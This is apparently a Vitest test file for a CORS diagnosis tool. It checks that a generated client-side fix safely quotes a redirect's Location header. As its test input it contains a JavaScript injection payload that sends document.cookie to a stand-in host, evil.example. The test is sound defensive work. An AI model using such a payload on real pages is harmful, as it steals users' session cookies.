/** The page-side fixes (src/core/fixes/client.ts): what a server's redirect puts in them stays data. */
import { describe, expect, it } from 'vitest'
import { diagnose } from '../../../src/core/index.ts'
import { API, exchange, h, ORIGIN } from '../exchange-builders.ts'

describe('the fix for a redirect with user:pass', () => {
  it('quotes the server’s target as a JS string: a hostile Location cannot add code', () => {
    const loc = "https://u:p@b.example/x');fetch('//evil.example/?'+document.cookie);('"
    const d = diagnose(
      exchange({
        redirects: [
          { fromUrl: API, status: 302, headers: h(['Access-Control-Allow-Origin', ORIGIN]), location: loc },
        ],
      }),
    )
    expect(d.corsError).toBe('RedirectContainsCredentials')
    const snippet = d.fixes.find((f) => f.stack === 'client')?.changes[0]?.snippet ?? ''
    const called: unknown[] = []
    // Run as the page would: exactly one fetch, to the target without its credentials.
    const run = new Function('fetch', 'btoa', `return (async () => { ${snippet} })()`)
    return run(
      (...args: unknown[]) => called.push(args[0]),
      (s: string) => s,
    ).then(() => {
      expect(called).toEqual([new URL(loc).href.replace('u:p@', '')])
    })
  })
})
